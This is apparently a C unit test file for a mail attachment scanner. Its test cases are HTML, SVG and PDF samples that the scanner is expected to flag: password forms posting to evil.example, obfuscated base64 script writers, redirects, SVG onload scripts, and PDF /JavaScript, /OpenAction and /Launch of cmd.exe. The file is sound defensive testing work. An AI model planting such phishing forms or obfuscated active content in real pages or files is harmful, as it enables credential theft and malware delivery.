/* test_attach_active.c - web pages, SVG images and PDFs that do something, and honest ones that
 * only look like it. */
#include "base/limits.h"
#include "examined.h"
#include "forge.h"
#include "parse/mail.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

/* 240 characters of base64 that are nothing. */
#define TEN   "aGVsbG8gd2"
#define LONG  TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN
#define NOISE LONG LONG
/* A page that asks for a password, in base64, and behind it what makes it long. */
#define HIDDEN_FORM "PGh0bWw+PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPjwvaHRtbD4g" NOISE

static const struct {
    const char *what, *name, *page;
    uint32_t traits;
    const char *detail;
} pages[] = {
    {"a letter", "a.html", "<html><p>Hello</p><a href=\"https://a.example\">x</a></html>", 0, ""},
    {"a search form", "a.html", "<html><form action=/s><input type=text name=q></form>" LONG, 0,
     ""},
    {"a counter", "a.html",
     "<html><script>document.write(unescape(\"%3Cscript src='x'%3E%3C/script%3E\"));</script>" LONG,
     0, ""},
    {"a library that could", "a.html",
     "<html><script>function d(s){return atob(s)} x.innerHTML='y';</script>" LONG, 0, ""},
    {"a picture in the page", "a.html", "<html><img src=\"data:image/png;base64," NOISE "\">" LONG,
     0, ""},
    {"a password form", "a.html",
     "<html><form action=\"https://evil.example/p\"><input name=p type='PassWord'></form>",
     PART_PASSWORD_FORM, "asks for a password"},
    {"no quotes", "a.htm", "<html><input type=password>", PART_PASSWORD_FORM,
     "asks for a password"},
    {"no html in front", "a.html", "Your file is ready<input type=\"password\">",
     PART_PASSWORD_FORM, "asks for a password"},
    {"decodes and writes", "a.html", "<html><script>document.write(atob('" NOISE "'));</script>",
     PART_SCRIPTED_HTML, "script decodes and writes"},
    {"in disguise", "a.html",
     "<html><script>document['wr'+'ite'](window['at' + \"ob\"]('" NOISE "'));eval(1)</script>",
     PART_SCRIPTED_HTML, "script decodes and writes"},
    {"escaped", "a.html", "<html><script>\\u0065val(\\x61tob('" NOISE "'));</script>",
     PART_SCRIPTED_HTML, "script decodes and writes"},
    {"hidden form", "a.html", "<html><script>document.write(atob('" HIDDEN_FORM "'));</script>",
     PART_SCRIPTED_HTML | PART_PASSWORD_FORM, "asks for a password; script decodes and writes"},
    {"hidden form, percent", "a.html",
     "<html><script>document.write(unescape('"
     "%3Chtml%3E%3Cinput%20type%3Dpassword%3E" LONG LONG "'));</script>",
     PART_SCRIPTED_HTML | PART_PASSWORD_FORM, "asks for a password; script decodes and writes"},
    {"drops", "a.html",
     "<html><script>var b = new Blob([x]); a.href = URL.createObjectURL(b);</script>" LONG,
     PART_SCRIPTED_HTML, "script drops a file"},
    {"on load", "a.html", "<html><body onload=\"eval(atob('eA=='))\">" LONG LONG LONG,
     PART_SCRIPTED_HTML, "script decodes and runs"},
    {"leads away", "a.html", "<html><script>window.location.href='https://evil.example'</script>",
     PART_SCRIPTED_HTML, "leads elsewhere at once"},
    {"leads away by a header", "a.html",
     "<html><meta http-equiv=\"Refresh\" content=\"0;url=https://evil.example\">",
     PART_SCRIPTED_HTML, "leads elsewhere at once"},
    {"a page in an address", "a.html", "<html><iframe src=\"data:text/html;base64,PGI+\"></iframe>",
     PART_SCRIPTED_HTML, "holds a page in a data: address"},
    {"a file in an address", "a.html",
     "<html><a download=x href=\"data:application/zip;base64,UEsD\">", PART_SCRIPTED_HTML,
     "holds a file in a data: address"},
    {"svg", "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>", 0, ""},
    {"svg with script", "a.svg", "<?xml version=\"1.0\"?><svg><script>alert(1)</script></svg>",
     PART_SVG_SCRIPT, "script in an SVG image"},
    {"svg on load", "a.svg", "<svg\nonload='location=\"https://evil.example\"'></svg>",
     PART_SVG_SCRIPT, "script in an SVG image"},
    {"unclosed", "a.html", "<html><script>atob(", 0, ""},
};

static void pages_are_judged_by_what_they_do(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(pages); i++)
        assert_examined(pages[i].name, str_of(pages[i].page), pages[i].traits, pages[i].detail,
                        NULL);
}

static void a_page_in_utf_16_is_read_too(void **state)
{
    static const char page[] = "<html><input type=password>";
    struct buf wide;

    (void)state;
    buf_init(&wide, KIB(4));
    buf_add(&wide, "\xff\xfe", 2);
    for (size_t i = 0; page[i]; i++)
        forge_number(&wide, (unsigned char)page[i], 2);
    assert_examined("a.html", buf_as_str(&wide), PART_PASSWORD_FORM, "asks for a password",
                    "text/html");
    buf_dispose(&wide);
}

static const struct {
    const char *what, *body;
    uint32_t traits;
    const char *detail;
} documents[] = {
    {"plain", "1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj", 0, ""},
    {"goes to a page when opened", "1 0 obj<</OpenAction<</S/GoTo/D[3 0 R]>>>>endobj", 0, ""},
    {"script", "1 0 obj<</S/JavaScript/JS(app.alert)>>endobj", PART_PDF_ACTIVE, "/JavaScript"},
    {"script when opened", "1 0 obj<</OpenAction<</S/JavaScript/JS 5 0 R>>>>endobj",
     PART_PDF_ACTIVE, "/JavaScript; /OpenAction"},
    {"hex in a name", "1 0 obj<</S/J#61va#53cript>>endobj", PART_PDF_ACTIVE, "/JavaScript"},
    {"launch", "1 0 obj<</S/Launch/F(cmd.exe)>>endobj", PART_PDF_ACTIVE, "/Launch"},
    {"a file inside", "1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj", PART_PDF_ACTIVE,
     "/EmbeddedFile"},
    {"locked", "trailer<</Root 1 0 R/Encrypt 9 0 R>>", PART_ENCRYPTED, "encrypted PDF"},
    {"a word that begins alike", "1 0 obj<</JavaScripts 1/JSX 2/Encrypted 3>>endobj", 0, ""},
    {"a name in a stream", "1 0 obj<</Length 12>>stream\n/JavaScript \nendstream endobj", 0, ""},
    {"behind a stream", "1 0 obj<</Length 3>>stream\nabc\nendstream endobj 2 0 obj<</S/Launch>>",
     PART_PDF_ACTIVE, "/Launch"},
    {"behind a stream that does not end", "garbage stream\n2 0 obj<</S/Launch>>", PART_PDF_ACTIVE,
     "/Launch"},
    {"behind a stream that ends too late",
     "garbage stream\n 1 0 obj<<>>endobj 2 0 obj<</S/Launch>>endobj 3 0 obj stream\nx endstream",
     PART_PDF_ACTIVE, "/Launch"},
};

static void pdfs_are_judged_by_their_names(void **state)
{
    char text[400];

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(documents); i++) {
        snprintf(text, sizeof(text), "%%PDF-1.7\n%s\n%%%%EOF\n", documents[i].body);
        assert_examined("a.pdf", str_of(text), documents[i].traits, documents[i].detail,
                        "application/pdf");
    }
}

static void objects_in_a_stream_are_unpacked(void **state)
{
    static const char *const kinds[] = {"/Type/ObjStm", "/Type/Obj#53tm"};

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(kinds); i++) {
        struct buf text;

        buf_init(&text, KIB(4));
        buf_printf(&text, "%%PDF-1.7\n1 0 obj<<%s/Filter/FlateDecode>>stream\r\n", kinds[i]);
        forge_zlib(&text, str_of("5 0 <</S/JavaScript/JS 6 0 R>>"));
        buf_text(&text, "\nendstream endobj");
        assert_examined("a.pdf", buf_as_str(&text), PART_PDF_ACTIVE, "/JavaScript", NULL);
        buf_dispose(&text);
    }
}

static void a_file_inside_a_pdf_is_looked_at(void **state)
{
    struct str program = forge_program();
    struct buf text;

    (void)state;
    buf_init(&text, KIB(4));
    buf_text(&text, "%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\r\n");
    forge_zlib(&text, program);
    buf_text(&text, "\nendstream endobj");
    assert_examined("a.pdf", buf_as_str(&text), PART_PDF_ACTIVE | PART_PROGRAM,
                    "/EmbeddedFile; Windows program", "application/pdf");
    buf_clear(&text);
    buf_text(&text, "%PDF-1.7\n1 0 obj<</Type/EmbeddedFile>>stream\r\n");
    buf_str(&text, program);
    buf_text(&text, "\nendstream endobj");
    assert_examined("a.pdf", buf_as_str(&text), PART_PDF_ACTIVE | PART_PROGRAM,
                    "/EmbeddedFile; Windows program", "application/pdf");
    buf_dispose(&text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(pages_are_judged_by_what_they_do),
        cmocka_unit_test(a_page_in_utf_16_is_read_too),
        cmocka_unit_test(pdfs_are_judged_by_their_names),
        cmocka_unit_test(objects_in_a_stream_are_unpacked),
        cmocka_unit_test(a_file_inside_a_pdf_is_looked_at),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
